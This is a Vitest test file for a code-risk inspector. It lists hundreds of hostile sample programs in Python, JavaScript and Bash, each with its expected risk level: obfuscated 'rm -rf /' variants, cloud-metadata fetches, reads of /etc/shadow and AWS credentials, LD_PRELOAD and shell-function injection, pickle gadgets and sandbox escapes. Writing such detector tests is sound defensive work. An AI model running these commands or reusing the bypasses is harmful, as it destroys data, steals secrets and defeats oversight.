import { describe, expect, it } from 'vitest'
import type { Impact } from '../contract/inspection.ts'
import type { Language, RiskLevel } from '../contract/run.ts'
import { inspectCode } from './inspect.ts'

/** Ways round the tables that were open once; a reviewer relies on each. */
const programs: readonly (readonly [Language, RiskLevel, string])[] = [
  ['javascript', 'high', "const { core } = Deno[Deno.internal]; core.ops.op_spawn('x')"],
  ['javascript', 'high', "Deno.core.ops.op_spawn_child({ cmd: 'id' })"],
  ['javascript', 'high', "const net = require('net'); new net.Socket({ fd: 250 }).write(frame)"],
  ['python', 'high', "import os, struct\nos.write(250, struct.pack('<II', 2, 0) + b'{}')"],
  ['python', 'high', "import os\nwith os.fdopen(250, 'wb') as f: f.write(b'x')"],
  ['python', 'high', "open('/dev/fd/250', 'wb').write(b'x')"],
  ['python', 'medium', "import polars as pl\npl.read_csv('a.csv').write_parquet('s3://other/a.parquet')"],
  ['python', 'medium', "from smart_open import open\nopen('s3://other/a.csv', 'w').write(rows)"],
  ['python', 'medium', "import fsspec\nfsspec.open('https://a.org/x', 'w')"],
  ['python', 'high', "import kubernetes\nkubernetes.client.CoreV1Api().delete_namespace('prod')"],
  ['bash', 'medium', 'rsync -a --delete empty/ /mnt/ledger/'],
  ['bash', 'high', "printf 'x' >&250"],
  ['javascript', 'critical', "await fetch(new URL('/latest/meta-data/', 'http://169.254.169.254'))"],
  ['javascript', 'critical', "const u = new URL('latest/', 'http://169.254.169.254/'); await fetch(u.href)"],
  ['javascript', 'critical', "fetch(new Request(new URL('/latest/', 'http://169.254.169.254')))"],
  [
    'python',
    'critical',
    "import requests\nfrom urllib.parse import urljoin\nrequests.get(urljoin('http://169.254.169.254', '/latest/'))",
  ],
  ['python', 'critical', "import asyncio.subprocess\nawait asyncio.subprocess.create_subprocess_shell('rm -rf /')"],
  ['python', 'critical', "import asyncio\nawait asyncio.subprocess.create_subprocess_exec('rm', '-rf', '/')"],
  ['python', 'critical', "import asyncio\nasyncio.get_event_loop().subprocess_shell(P, 'rm -rf /')"],
  ['python', 'critical', "import asyncio\nloop = asyncio.new_event_loop()\nloop.subprocess_exec(P, 'rm', '-rf', '/')"],
  ['python', 'critical', "from sh import rm\nrm('-rf', '/')"],
  ['python', 'critical', "import sh\nsh.rm('-rf', '/')"],
  ['python', 'medium', "import sh\nsh.Command('rm')('-rf', '/')"],
  ['python', 'critical', "from plumbum.cmd import rm\nrm('-rf', '/')"],
  ['python', 'medium', "from plumbum import local\nlocal['rm']['-rf', '/']()"],
  ['python', 'high', "import fsspec\nfsspec.filesystem('file').rm('/data', recursive=True)"],
  ['python', 'high', "import s3fs\nfs = s3fs.S3FileSystem()\nfs.rm('s3://bucket/data', recursive=True)"],
  ['python', 'high', "import s3fs\ns3fs.S3FileSystem().put('secrets.csv', 's3://bucket/x')"],
  ['python', 'high', "from pyarrow import fs\nfs.LocalFileSystem().delete_dir('/data')"],
  ['python', 'critical', 'import duckdb\nduckdb.sql("COPY t TO \'/etc/passwd\'")'],
  ['python', 'high', 'import duckdb\nduckdb.connect().execute("COPY (SELECT 1) TO \'s3://other/x.csv\'")'],
  ['python', 'high', 'import duckdb\nduckdb.sql("SELECT * FROM read_csv(\'/etc/passwd\')")'],
  ['javascript', 'high', "const Module = require('module'); new Module('x')._compile(code, 'x.js')"],
  ['javascript', 'critical', "module._compile(\"require('fs').rmSync('/', { recursive: true })\", 'x')"],
  ['typescript', 'medium', 'Deno.run(options)'],
  ['typescript', 'medium', 'const o = { cmd: words }; Deno.run(o)'],
  ['bash', 'medium', 'read -r c; $c'],
  ['bash', 'medium', 'while read -r c; do $c; done < cmds.txt'],
  ['bash', 'medium', 'bash cmds.txt'],
  [
    'python',
    'high',
    "import urllib.request, joblib\nurllib.request.urlretrieve('https://a.org/m', 'm.pkl')\njoblib.load('m.pkl')",
  ],
  [
    'python',
    'high',
    "import requests, pickle\nopen('m', 'wb').write(requests.get(u).content)\npickle.load(open('m', 'rb'))",
  ],
  ['python', 'high', "import os, joblib\nos.system('wget -O m.pkl https://a.org/m')\njoblib.load('m.pkl')"],
  ['python', 'high', "import ctypes\nctypes.CDLL(None).system(b'id')"],
  ['python', 'critical', "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.system(b'rm -rf /')"],
  ['javascript', 'high', "process.binding('spawn_sync').spawn(options)"],
  ['javascript', 'critical', "const { URL: U } = require('url'); fetch(new U('/x', 'http://169.254.169.254'))"],
  ['javascript', 'critical', "fetch(URL.parse('/x', 'http://169.254.169.254'))"],
  ['javascript', 'critical', "fetch(require('url').resolve('http://169.254.169.254', '/x'))"],
  ['javascript', 'critical', "const u = new URL('https://ok.org/x'); u.hostname = '169.254.169.254'; fetch(u)"],
  ['javascript', 'critical', "const u = new URL('https://ok.org/x'); u.href = 'http://169.254.169.254/'; fetch(u)"],
  ['javascript', 'critical', "const axios = require('axios'); axios.get('/x', { baseURL: 'http://169.254.169.254' })"],
  [
    'javascript',
    'critical',
    "const axios = require('axios'); axios.create({ baseURL: 'http://169.254.169.254' }).get('/x')",
  ],
  ['javascript', 'critical', "fetch('http://[::ffff:169.254.169.254]/latest')"],
  ['javascript', 'critical', "fetch('http://0251.0376.0251.0376/latest')"],
  ['javascript', 'critical', "fetch('http://2852039166/latest')"],
  ['python', 'critical', "import httpx\nhttpx.Client(base_url='http://169.254.169.254').get('/latest')"],
  ['python', 'critical', "import aiohttp\naiohttp.ClientSession('http://169.254.169.254').get('/latest')"],
  [
    'python',
    'critical',
    "import requests\nfrom urllib.parse import urlunsplit\nrequests.get(urlunsplit(('http', '169.254.169.254', '/', '', '')))",
  ],
  ['python', 'critical', "import anyio\nawait anyio.run_process('rm -rf /')"],
  ['python', 'critical', "import trio\nawait trio.run_process(['rm', '-rf', '/'])"],
  ['python', 'critical', "import psutil\npsutil.Popen(['rm', '-rf', '/'])"],
  ['python', 'critical', "from invoke import Context\nContext().run('rm -rf /')"],
  ['python', 'critical', "from sh import contrib\ncontrib.sudo('rm', '-rf', '/')"],
  ['python', 'medium', "from plumbum.cmd import rm\nrm['-rf', '/'] & FG"],
  ['python', 'medium', "from plumbum import SshMachine\nSshMachine('h')['rm']('-rf', '/')"],
  ['python', 'high', "import fsspec\nfs, p = fsspec.core.url_to_fs('/data')\nfs.rm('/data', recursive=True)"],
  ['python', 'high', "from pyarrow import fs\nf, p = fs.FileSystem.from_uri('s3://b/x')\nf.delete_dir('b/x')"],
  ['python', 'high', "from pyarrow import fs\nfs.copy_files('/data', 's3://other/x')"],
  ['javascript', 'high', "new (require('vm').SourceTextModule)(code)"],
  ['javascript', 'high', "require('/tmp/x.node')"],
  ['javascript', 'medium', "require.extensions['.js'](module, '/tmp/x.js')"],
  ['javascript', 'critical', "require('node-pty').spawn('bash', ['-c', 'rm -rf /'])"],
  ['bash', 'medium', 'c=$(<cmds.txt); $c'],
  ['bash', 'medium', 'read -ra c; "${c[@]}"'],
  ['bash', 'medium', 'read; $REPLY'],
  ['bash', 'medium', 'bash < cmds.txt'],
  ['bash', 'medium', 'bash <(cat cmds.txt)'],
  ['bash', 'medium', 'parallel < cmds.txt'],
  ['bash', 'high', 'parallel rm < names'],
  ['bash', 'medium', 'perl data.txt'],
  [
    'python',
    'high',
    "import subprocess, joblib\nsubprocess.run(['curl', '-o', 'm.pkl', 'https://a.org/m'])\njoblib.load('m.pkl')",
  ],
  ['python', 'high', "import boto3, joblib\nboto3.client('s3').download_file('b', 'k', 'm.pkl')\njoblib.load('m.pkl')"],
  [
    'python',
    'high',
    "from huggingface_hub import hf_hub_download\nimport joblib\njoblib.load(hf_hub_download('a/b', 'm.pkl'))",
  ],
  ['python', 'medium', "import sqlite3\nsqlite3.connect('x').load_extension('/tmp/x.so')"],
  ['bash', 'critical', 'curl -o "$dir/run.sh" https://a.org/x; bash "$dir/run.sh"'],
  ['bash', 'critical', 'x="rm$$"; ${x%%[0-9]*} -rf /'],
  ['python', 'high', `@eval\n@lambda f: "__import__('os').system('rm -rf /')"\ndef f(): pass`],
  ['python', 'medium', `class A:\n    __class_getitem__ = exec\nA["import os; os.remove('/etc/hosts')"]`],
  ['python', 'medium', `import os\nclass R:\n    @property\n    def x(self): return os.system\nR().x('rm -rf /')`],
  ['python', 'critical', `__builtins__.__dict__['__imp' + 'ort__']('os').system('rm -rf /')`],
  ['python', 'critical', `import pydoc\npydoc.locate('os.system')('rm -rf /')`],
  ['python', 'critical', `from unittest import mock\nmock._importer('os').system('rm -rf /')`],
  ['python', 'medium', `import gc\n[o for o in gc.get_objects() if o.__name__ == 'posix'][0].system('rm -rf /')`],
  ['python', 'medium', `import tempfile\ntempfile.TemporaryDirectory._rmtree('/srv/x')`],
  ['python', 'medium', `import sys\nsys.modules['pandas'] = fake`],
  ['python', 'medium', `f.__code__ = g.__code__.replace(co_code=b'x')`],
  ['python', 'medium', `import os\nos.environ.update(LD_PRELOAD='/tmp/x.so')`],
  ['python', 'medium', `import os\nos.environb[b'LD_PRELOAD'] = b'/tmp/x.so'`],
  ['python', 'critical', `import io\nio.FileIO('/etc/hosts', 'w').write(b'')`],
  ['python', 'medium', `import tkinter\ntkinter.Tk().eval('exec rm -rf /srv')`],
  ['javascript', 'critical', `import { $ } from 'npm:zx'; await $\`rm -rf /srv\``],
  ['javascript', 'critical', `import $ from 'https://deno.land/x/dax/mod.ts'; await $\`rm -rf /srv\``],
  ['javascript', 'critical', `const { default: ex } = await import('npm:execa@9'); await ex('rm', ['-rf', '/srv'])`],
  ['javascript', 'medium', `Object.entries(Deno).find(([k]) => k === 'removeSync')[1]('/srv')`],
  ['bash', 'high', 'coproc sh'],
  ['bash', 'high', 'coproc NAME { sh; }'],
  ['bash', 'high', 'exec 3> >(sh); echo "$line" >&3'],
  ['bash', 'medium', 'coproc python3 -i'],
  ['bash', 'medium', 'bash <(make_steps)'],
  ['bash', 'medium', 'make_steps | python3'],
  ['bash', 'critical', `python3 -m timeit -s 'import os' 'os.system("rm -rf /srv")'`],
  ['bash', 'critical', `python3 -m pdb a.py <<< '!import os; os.system("rm -rf /srv")'`],
  ['bash', 'medium', 'python3 -m cProfile -s time notes.txt'],
  ['bash', 'medium', 'python3 -m pickle model.pkl'],
  ['bash', 'high', 'python3 -m zipapp src -o /srv/tool.pyz'],
  ['bash', 'high', 'python3 -m zipfile -e a.zip /srv'],
  ['bash', 'critical', `python3 -m imaplib -s 'rm -rf /srv'`],
  ['python', 'critical', `import timeit\ntimeit.main(['-s', 'import os', 'os.system("rm -rf /srv")'])`],
  ['bash', 'medium', `pwsh -c 'rm -r /srv'`],
  ['bash', 'critical', `env 'BASH_FUNC_ls%%=() { rm -rf /srv; }' bash -c ls`],
  ['bash', 'medium', `env 'x=() { :;}; id' bash -c :`],
  ['python', 'medium', `import os\nos.environ['BASH_FUNC_ls%%'] = '() { id; }'`],
  ['python', 'medium', `import subprocess\nsubprocess.run(['ls'], env={'LD_PRELOAD': './x.so'})`],
  ['bash', 'critical', `ed file <<'E'\ne !rm -rf /srv\nE`],
  ['bash', 'critical', `ed -s '!rm -rf /srv' <<'E'\nq\nE`],
  ['bash', 'medium', `ed file <<'E'\ng/x/!id\nE`],
  ['bash', 'critical', `vim -es file <<'E'\nsilent !rm -rf /srv\nE`],
  ['bash', 'critical', `vim -es file <<'E'\n%s/a/\\=system('rm -rf \\/srv')/\nE`],
  ['bash', 'medium', 'fc -s'],
  ['bash', 'critical', `fc -e 'rm -rf /srv' -1`],
  ['python', 'high', `import copyreg, os\ncopyreg.pickle(Rate, lambda it: (os.system, ('id',)))`],
  ['python', 'high', `import os\nE = type('E', (), {'__reduce__': lambda self: (os.system, ('id',))})`],
  ['python', 'high', `class E:\n    def __reduce__(self):\n        return (__import__, ('os',))`],
  ['javascript', 'medium', `with (process) exit()`],
  ['javascript', 'medium', `Deno.env.set('LD_PRELOAD', '/tmp/x')`],
  ['bash', 'critical', `git submodule foreach 'rm -rf /srv'`],
  ['bash', 'critical', `tmux new -d 'rm -rf /srv'`],
  ['bash', 'high', `fd -x rm`],
  ['bash', 'critical', `make --eval='all:;rm -rf /srv'`],
  ['bash', 'critical', `make -f - <<< 'all:; rm -rf /srv'`],
  ['bash', 'critical', `make CC='rm -rf /srv'`],
  ['bash', 'critical', `echo 'rm -rf /srv' > x.sh; chmod +x x.sh; ./x.sh`],
  ['bash', 'critical', `echo 'rm -rf /srv' | tee x.sh; bash x.sh`],
  ['bash', 'critical', `cat > x <<< 'rm -rf /srv'; cp x y; bash ./y`],
  ['bash', 'critical', `sed '1!G;h;$!d;w/etc/hosts' x`],
  ['python', 'critical', 'import countersign.jail as j\nj.libc.system(b"id")'],
  ['python', 'critical', "import sys\nsys.modules['countersign']"],
  ['python', 'critical', "import subprocess\nclass P(subprocess.Popen):\n    pass\nP('rm -rf /', shell=True)"],
  [
    'python',
    'critical',
    'import subprocess\nclass P(subprocess.Popen):\n    def __init__(self, c):\n        super().__init__(c, shell=True)\nP("rm -rf /")',
  ],
  [
    'python',
    'critical',
    'import subprocess\nclass A(subprocess.Popen):\n    pass\nclass B(A):\n    def __init__(self, c):\n        subprocess.Popen.__init__(self, c, shell=True)\nB("rm -rf /")',
  ],
  ['python', 'critical', "import weakref, shutil\nweakref.finalize(object, shutil.rmtree, '/etc')"],
  ['python', 'critical', "from requests.sessions import Session\nSession().get('http://169.254.169.254/latest')"],
  ['python', 'high', "from anyio import Path\nawait Path('/etc/shadow').read_text()"],
  ['python', 'critical', "from setuptools._distutils.dir_util import remove_tree\nremove_tree('/etc')"],
  ['python', 'critical', "from IPython.utils.process import system\nsystem('rm -rf /')"],
  ['python', 'critical', "get_ipython().getoutput('rm -rf /')"],
  ['python', 'high', '%env'],
  ['python', 'high', '%pycat /etc/shadow'],
  ['python', 'high', "import toml\ntoml.load('~/.aws/credentials')"],
  ['python', 'medium', "import torch\ntorch.ops.load_library('./a.so')"],
  ['python', 'critical', "import sympy\nsympy.sympify(\"__import__('os').system('rm -rf /')\")"],
  ['javascript', 'critical', "class A { [require('fs').rmSync('/etc', { recursive: true })] = 1 }"],
  ['javascript', 'critical', "const o = { [require('fs').rmSync('/etc', { recursive: true })]() {} }"],
  [
    'javascript',
    'critical',
    "const { Worker } = require('worker_threads'); class W extends Worker { constructor(c) { super(c, { eval: true }) } }; new W(`require('fs').rmSync('/', { recursive: true })`)",
  ],
  ['javascript', 'high', "await (await fetch('file:///etc/shadow')).text()"],
  ['javascript', 'high', "import keys from '/etc/shadow' with { type: 'json' }"],
  ['bash', 'high', `perl -e 'unlink <*.csv>'`],
  ['bash', 'medium', 'bash <<< "$x"'],
  ['bash', 'medium', 'f() { sh; }; f <<< "$1"'],
  ['bash', 'medium', 'python3 - <<< "$x"'],
  ['bash', 'medium', 'sh -c "$1"'],
  ['bash', 'medium', 'bash -lc "$CMD" 2>&1'],
  ['bash', 'medium', 'perl -e "$1"'],
  ['bash', 'medium', 'echo "$x" > a.sh; . ./a.sh'],
  ['bash', 'critical', "bash -s a <<< 'rm -rf /srv'"],
  ['bash', 'medium', 'declare -n x=PATH'],
  ['bash', 'high', 'f() { local -n r=$1; r=/tmp/tools; }; f PATH'],
  ['bash', 'high', 'declare -n a=PATH; declare -n b=a; b=/tmp/tools:$PATH'],
  ['bash', 'high', 'declare -n b=a; declare -n a=PATH; b=/tmp/tools:$PATH'],
  ['python', 'medium', 'import sys\nsys._getframe(3).f_globals'],
  ['python', 'medium', "import sys\ngetattr(sys._getframe(3), 'f_globals')['x'] = 1"],
  ['python', 'high', "import clickhouse_connect\nclickhouse_connect.get_client().command('DROP TABLE t')"],
  ['python', 'high', "client.command('DROP TABLE t')"],
  ['python', 'medium', 'client.upload_blob(data)'],
  ['python', 'medium', "df.write.mode('overwrite').save('s3://bucket/x')"],
  ['bash', 'critical', 'rm() { command rm "$@"; }; rm -rf /'],
  ['bash', 'critical', 'set rm -rf /; $*'],
  ['bash', 'critical', "x=(ls 'rm -rf /'); ${x[-1]}"],
  ['bash', 'critical', "wait -n -p 'a[$(rm -rf /)]'"],
  ['bash', 'critical', 'conda run -n env rm -rf /'],
  ['bash', 'critical', 'direnv exec . rm -rf /'],
  ['bash', 'critical', 'mise exec -- rm -rf /'],
  ['bash', 'critical', 'numactl -N 0 rm -rf /'],
  ['bash', 'critical', 'uv run --with evil python -c \'import shutil; shutil.rmtree("/etc")\''],
  ['bash', 'critical', "nix-shell -p x --run 'rm -rf /'"],
  ['bash', 'critical', 'cmake -E rm -rf /'],
  ['bash', 'high', 'export "LD_PRELOAD=./x.so"; ls'],
  ['bash', 'high', 'n=LD_PRELOAD; declare -x "$n=./x.so"; ls'],
  ['bash', 'high', ': "${LD_PRELOAD:=./x.so}"; export LD_PRELOAD'],
  ['bash', 'high', 'for LD_PRELOAD in ./x.so; do ls; done'],
  ['bash', 'high', 'PATH=/tmp; ls'],
  ['bash', 'medium', 'read -r PATH < file; ls'],
  ['python', 'critical', "import os\nmatch os:\n    case object(system=run):\n        run('rm -rf /')"],
  ['python', 'critical', "import os\nmatch {'f': [os.system]}:\n    case {'f': [run]}:\n        run('rm -rf /')"],
  ['python', 'critical', "import os\na = {'f': os.system}\na |= {'g': 1}\na['f']('rm -rf /')"],
  ['python', 'critical', "import os\na, *b = print, os.system\nb[0]('rm -rf /')"],
  ['python', 'critical', "import os\n[print, os.system].pop()('rm -rf /')"],
  ['python', 'critical', "import os\nos.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')"],
  ['python', 'medium', "import os\nrun({'before': os.remove})"],
  ['python', 'medium', "import os\nrun(steps=[{'do': [os.remove]}])"],
  [
    'python',
    'medium',
    "from importlib.machinery import SourceFileLoader\nSourceFileLoader('x', '/tmp/x').load_module()",
  ],
  ['python', 'critical', "import cProfile\ncProfile.run('1', '/etc/cron.d/x')"],
  ['python', 'critical', "import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'http://169.254.169.254/')"],
  ['javascript', 'critical', "this.Deno.removeSync('/etc', { recursive: true })"],
  ['javascript', 'medium', 'run({ before: Deno.removeSync })'],
]

const ordinary: readonly (readonly [Language, string])[] = [
  ['python', "import pandas as pd\ndf = pd.read_csv('a.csv')\nprint(df.groupby('a').sum())"],
  [
    'python',
    'import numpy as np\nfrom sklearn.linear_model import LinearRegression\nLinearRegression().fit(np.eye(2), [1, 2])',
  ],
  ['python', "import requests\nprint(requests.get('https://example.org/a.json').json())"],
  ['python', 'import duckdb\nduckdb.query("SELECT * FROM \'data.parquet\'").df()'],
  ['python', "import joblib\nmodel = joblib.load('model.pkl')"],
  ['python', 'import asyncio\nasyncio.run(main())'],
  ['python', "import s3fs\nprint(s3fs.S3FileSystem().ls('s3://bucket/data'))"],
  ['javascript', "const r = await fetch(new URL('/api/items', 'https://api.example.org'))"],
  ['bash', 'bash run.sh\n"$1" --version'],
  ['python', `import sympy as sp\nprint(sp.sympify('x**2').diff('x'))`],
  ['python', `from collections import namedtuple\nprint(namedtuple('T', 'a b')(1, 2)._asdict())`],
  ['python', `import os\nos.environ.update(TZ='Europe/Dublin')`],
  ['javascript', `import { format } from 'npm:date-fns@3'; format(new Date(), 'yyyy')`],
  ['javascript', `Object.entries(row).map(([k, v]) => v)`],
  ['bash', `make CC=gcc -j4`],
  ['bash', `echo 'echo hello' > x.sh; chmod +x x.sh; ./x.sh`],
  ['bash', `fd -e csv`],
  ['bash', `tee log.txt <<< hello; cat log.txt`],
  ['bash', 'while read -r name; do echo "$name"; done < names.txt'],
  ['bash', "sh -c 'ls -l'; bash <<< 'ls'; bash <<< \"ls $1\""],
  ['bash', 'bash <<END\ncd "$dir"\nls\nEND'],
  ['bash', 'source .venv/bin/activate\npython analyse.py'],
  ['bash', 'set -a; . ./.env; set +a; source lib/common.sh'],
  ['bash', 'python3 - <<END\nprint("$x")\nEND'],
  ['bash', 'jq . a.json | python3 -m json.tool'],
  ['bash', 'jupyter nbconvert --to script a.ipynb --stdout > a.py; python3 a.py'],
  ['bash', "sh -c ':'; source <(pip completion --bash)"],
  ['bash', 'append() { local -n list=$1; list+=("$2"); }; append names x'],
  ['python', 'import sys\nprint(sys._getframe(1).f_code.co_name)'],
  ['python', "import numpy as np\ndf.agg({'a': 'sum', 'b': np.mean})"],
  ['python', "import os\nrun({'folder': os.getcwd()})"],
  ['python', "match command:\n    case ['go', str(direction)]:\n        print(direction)\n    case _:\n        pass"],
  ['bash', 'for path in a b; do echo "$path"; done; export "NAME=value"; : "${COLOR:=red}"'],
  ['bash', 'make() { command make -j4 "$@"; }; make all'],
  ['python', "import click\n@click.group()\ndef cli(): pass\n@cli.command('drop')\ndef drop(): pass"],
]

describe('what once went past the tables', () => {
  it.each(programs)('%s is %s: %s', async (language, level, code) => {
    expect((await inspectCode(code, language)).risk).toBe(level)
  })

  it.each([
    ["import yfinance as yf\nyf.download('AAPL')", 'query1.finance.yahoo.com'],
    ["import seaborn as sns\nsns.load_dataset('tips')", 'raw.githubusercontent.com'],
    ["df.to_csv('s3://bucket/x.csv')", 'bucket'],
    ["df.to_sql('t', 'postgresql://u:p@db.example/x')", 'db.example'],
    ["import pandas as pd\npd.read_sql('select 1', 'postgresql://db.example/x')", 'db.example'],
    ["import dask.dataframe as dd\ndd.read_csv('s3://bucket/*.csv')", 'bucket'],
  ])('names the host that a library reaches by itself: %s', async (code, host) => {
    const { impact } = await inspectCode(code, 'python')
    expect(impact.hosts.map(({ target }) => target)).toContain(host)
  })

  it.each(ordinary)('and ordinary %s stays low: %s', async (language, code) => {
    const { risk, impact } = await inspectCode(code, language)
    expect(risk).toBe('low')
    expect(impact.unknownCalls).toBeUndefined()
  })
})

describe('a file of a program of its own', () => {
  it.each(['perl a.pl', 'awk -f a.awk table', 'sed -f a.sed table'])('is unknown in its impact: %s', async code => {
    const { impact } = await inspectCode(code, 'bash')
    expect(impact.reversible).toBe('unknown')
  })

  it('reaches the network when it lies there', async () => {
    const { impact } = await inspectCode("from smart_open import open\nopen('s3://b/x', 'w').write('s')", 'python')
    expect(impact.blastRadius).toBe('network')
  })
})

describe('code whose text nobody can know', () => {
  it.each([
    'bash <<< "$x"',
    'sh -c "$1"',
    'perl -e "$1"',
    '. ./cmds.sh',
    'source cmds.sh',
    'source "$1"',
    'declare -n x=PATH',
  ])('is a program that runs, and cannot be undone for sure: %s', async code => {
    const { impact, violations } = await inspectCode(code, 'bash')
    expect(impact.commands).not.toEqual([])
    expect(impact.reversible).toBe('unknown')
    expect(impact.blastRadius).not.toBe('contained')
    expect(violations).not.toEqual([])
  })

  it('is a remark where a file is read into the shell, and its name is not made up', async () => {
    expect((await inspectCode('. ./cmds.sh', 'bash')).violations).toMatchObject([
      { rule: 'shell/unread-file', severity: 'low' },
    ])
    expect((await inspectCode('source "$1"', 'bash')).impact.commands).toMatchObject([{ target: null }])
  })

  it('is what may be done with the variables of a caller', async () => {
    const { impact } = await inspectCode('import sys\nsys._getframe(3).f_globals', 'python')
    expect(impact).toMatchObject({ reversible: 'unknown', blastRadius: 'local' })
  })
})

describe('a call into a library of which nothing is known', () => {
  it.each<[Language, string, string]>([
    ['python', "import somelib\nsomelib.destroy('x')", "somelib.destroy('x')"],
    ['python', 'from somelib.deep import Thing\nThing().go()', 'Thing()'],
    ['javascript', "import lib from 'some-lib'\nlib.wipe('x')", "lib.wipe('x')"],
    ['typescript', "const { wipe } = require('@scope/lib'); wipe()", 'wipe()'],
    ['javascript', "import { wipe } from './local.js'\nwipe()", 'wipe()'],
    ['python', 'import duckdb\nduckdb.sql(query)', 'duckdb.sql(query)'],
    ['python', "exec('import somelib\\nsomelib.destroy()')", "exec('import somelib\\nsomelib.destroy()')"],
  ])('in %s says that the impact is not known: %s', async (language, code, expression) => {
    const { risk, impact } = await inspectCode(code, language)
    expect(impact).toMatchObject({ reversible: 'unknown', blastRadius: 'unknown', volume: 'unknown' })
    expect(impact.unknownCalls?.map(call => call.expression)).toContain(expression)
    expect(risk).toBe('low')
  })

  it.each<[Language, string]>([
    ['python', "import pytest\npytest.main(['-p', 'helper'])"],
    ['python', 'import ensurepip\nensurepip.bootstrap()'],
    ['python', "from setuptools import setup\nsetup(script_args=['install'])"],
    ['python', "import multiprocessing.util as u\nu.spawnv_passfds('/bin/sh', ['sh'], [])"],
    ['python', "import boto3\nboto3.client('ec2').reboot_instances(InstanceIds=['a'])"],
    ['python', "from IPython import start_ipython\nstart_ipython(['-c', 'x'])"],
    ['javascript', "Deno.kill(1, 'SIGKILL')"],
    ['javascript', "Deno.permissions.request({ name: 'run' })"],
    ['javascript', "new Worker('./x.js')"],
    ['javascript', "require('cluster').fork()"],
    ['javascript', "require('http').createServer(() => {}).listen(8000)"],
    ['javascript', "import './steps.js'"],
  ])(
    'in %s knows no more of a library that reaches out, where no table names the function: %s',
    async (language, code) => {
      const { impact } = await inspectCode(code, language)
      expect(impact).toMatchObject({ reversible: 'unknown', blastRadius: 'unknown' })
      expect(impact.unknownCalls?.length).toBeGreaterThan(0)
    },
  )

  it.each<[Language, keyof Impact, string, string | null]>([
    ['python', 'hosts', "import logging.handlers\nlogging.handlers.HTTPHandler('a.example', '/')", 'a.example'],
    ['python', 'hosts', "from lxml import etree\netree.parse('http://a.example/x.xml')", 'a.example'],
    ['python', 'hosts', "import pandas as pd\npd.DataFrame().to_gbq('d.t')", 'bigquery.googleapis.com'],
    ['python', 'filesRead', "import pyarrow.parquet as pq\npq.read_table('a.parquet')", 'a.parquet'],
    ['python', 'filesRead', "from pandas.io.parsers import read_csv\nread_csv('a.csv')", 'a.csv'],
    ['python', 'filesWritten', '%save steps.py 1-3', 'steps.py'],
    ['python', 'filesWritten', "df.write.mode('overwrite').save(path)", null],
    ['python', 'filesWritten', "df.write.option('header', True).csv('out')", 'out'],
    ['python', 'filesWritten', "model.save('m.h5')", 'm.h5'],
    ['python', 'dataModified', "df.write.saveAsTable('t')", 't'],
    ['python', 'dataModified', `cursor.execute("EXEC xp_cmdshell 'dir'")`, "EXEC xp_cmdshell 'dir'"],
    ['python', 'hosts', 'container.upload_blob(name, data)', null],
    ['javascript', 'hosts', "import { exec } from 'https://deno.land/x/exec/mod.ts'", 'deno.land'],
    ['javascript', 'hosts', "import x from 'npm:left-pad'", 'registry.npmjs.org'],
    ['javascript', 'hosts', "await Deno.resolveDns('a.example', 'A')", 'a.example'],
    ['javascript', 'filesRead', "require('./config.json')", 'config.json'],
    ['javascript', 'filesDeleted', "import { deleteAsync } from 'del'; await deleteAsync('data')", 'data'],
    ['bash', 'filesWritten', `awk 'BEGIN { print "" > "a.csv" }'`, 'a.csv'],
    ['bash', 'filesWritten', `awk '{ print > $1 ".csv" }' a.csv`, null],
    ['bash', 'filesWritten', `perl -i -ne '' a.csv`, 'a.csv'],
    ['bash', 'filesWritten', "ed a.csv <<< $'1,$d\\nw\\nq'", null],
    ['bash', 'filesWritten', 'chown -R me .', '.'],
    ['bash', 'filesDeleted', 'rsync -a --delete empty/ data/', 'data'],
    ['bash', 'filesDeleted', 'tar cf x.tar --remove-files data', 'data'],
    ['bash', 'filesDeleted', 'zip -m x.zip data', 'data'],
    ['bash', 'commands', 'go run tool.go', 'go run tool.go'],
  ])('in %s lists under %s what %s touches', async (language, list, code, target) => {
    const { impact } = await inspectCode(code, language)
    expect(impact[list]).toContainEqual(expect.objectContaining({ target }))
  })

  it('takes a reader of Spark for no writer', async () => {
    const { impact } = await inspectCode("spark.read.option('header', True).csv('a.csv')", 'python')
    expect(impact.filesWritten).toEqual([])
  })

  it('compares in awk without writing', async () => {
    const { impact } = await inspectCode(`awk '$2 > "2025-01-01" { print $1 }' a.csv`, 'bash')
    expect(impact.filesWritten).toEqual([])
  })

  it('keeps what is known of the rest', async () => {
    const code = "import somelib, shutil\nsomelib.go()\nshutil.rmtree('/data')"
    const { impact } = await inspectCode(code, 'python')
    expect(impact).toMatchObject({ reversible: 'no', blastRadius: 'local' })
    expect(impact.filesDeleted).toMatchObject([{ target: '/data' }])
  })

  it('does not call a request undoable that has been sent', async () => {
    const { impact } = await inspectCode(
      "import urllib.request\nurllib.request.urlopen('https://example.org/a')",
      'python',
    )
    expect(impact.reversible).not.toBe('yes')
  })

  it('is no variable of an earlier cell, and no function of the program', async () => {
    const { impact } = await inspectCode('def f():\n    return 1\nf()\ntable.head()', 'python')
    expect(impact).toMatchObject({ reversible: 'yes', blastRadius: 'contained', volume: 'none' })
  })
})

it('does not take a variable of the environment for the name of a file', async () => {
  const { impact } = await inspectCode("import shutil, os\nshutil.rmtree(os.path.expandvars('$TMPDIR/x'))", 'python')
  expect(impact.filesDeleted).toMatchObject([{ target: null }])
  expect(impact).toMatchObject({ reversible: 'no', blastRadius: 'local' })
})
